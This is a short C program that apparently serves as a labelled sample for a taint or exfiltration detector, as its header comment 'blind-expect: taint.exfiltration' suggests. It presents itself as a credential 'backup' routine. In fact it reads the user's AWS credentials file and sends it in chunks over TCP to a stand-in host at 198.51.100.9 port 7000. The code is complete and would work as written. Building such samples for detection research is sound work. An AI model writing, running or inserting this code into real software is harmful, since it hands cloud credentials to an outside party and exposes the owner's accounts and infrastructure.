// blind-expect: taint.exfiltration
// Credential "backup" routine that reads the AWS credentials file and ships it to a backup host in chunks.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define CHUNK 256

static int load_credentials(char **out, size_t *out_len)
{
    char path[512];
    const char *home = getenv("HOME");
    if (!home)
        return -1;
    snprintf(path, sizeof path, "%s/.aws/credentials", home);
    FILE *fp = fopen(path, "r");
    if (!fp)
        return -1;
    size_t cap = 4096, len = 0;
    char *data = malloc(cap);
    if (!data) {
        fclose(fp);
        return -1;
    }
    size_t n;
    while ((n = fread(data + len, 1, cap - len, fp)) > 0) {
        len += n;
        if (len == cap) {
            char *bigger = realloc(data, cap * 2);
            if (!bigger)
                break;
            data = bigger;
            cap *= 2;
        }
    }
    fclose(fp);
    *out = data;
    *out_len = len;
    return 0;
}

static void send_chunks(int sock, const char *data, size_t len)
{
    for (size_t off = 0; off < len; off += CHUNK) {
        size_t n = len - off < CHUNK ? len - off : CHUNK;
        if (send(sock, data + off, n, 0) < 0)
            return;
    }
}

int main(void)
{
    char *creds = NULL;
    size_t len = 0;
    if (load_credentials(&creds, &len) != 0) {
        fprintf(stderr, "nothing to back up\n");
        return 1;
    }
    int sock = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in sa;
    memset(&sa, 0, sizeof sa);
    sa.sin_family = AF_INET;
    sa.sin_port = htons(7000);
    inet_pton(AF_INET, "198.51.100.9", &sa.sin_addr);
    if (sock >= 0 && connect(sock, (struct sockaddr *)&sa, sizeof sa) == 0)
        send_chunks(sock, creds, len);
    if (sock >= 0)
        close(sock);
    free(creds);
    return 0;
}
